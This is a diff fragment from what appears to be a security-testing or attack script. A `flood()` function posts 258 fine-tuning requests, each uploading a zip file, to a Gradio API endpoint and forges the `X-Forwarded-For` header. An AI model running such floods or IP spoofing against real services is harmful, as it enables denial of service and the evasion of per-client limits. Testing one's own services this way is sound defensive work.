@@ -144,7 +144,7 @@ def main() -> None:
 
             def flood():
                 for _ in range(258):
-                    body = {"data": [attacks.file_data(path, "colours.zip"), "all", 100, 3e-5, 4],
+                    body = {"data": [attacks.file_data(path, "colours.zip"), "all", 100, 3e-5, 4, False],
                             "session_hash": session}
                     status, answer = attacks.post(url, "/gradio_api/call/finetune", json.dumps(body).encode(),
                                                   {"X-Forwarded-For": "198.18.3.1"})
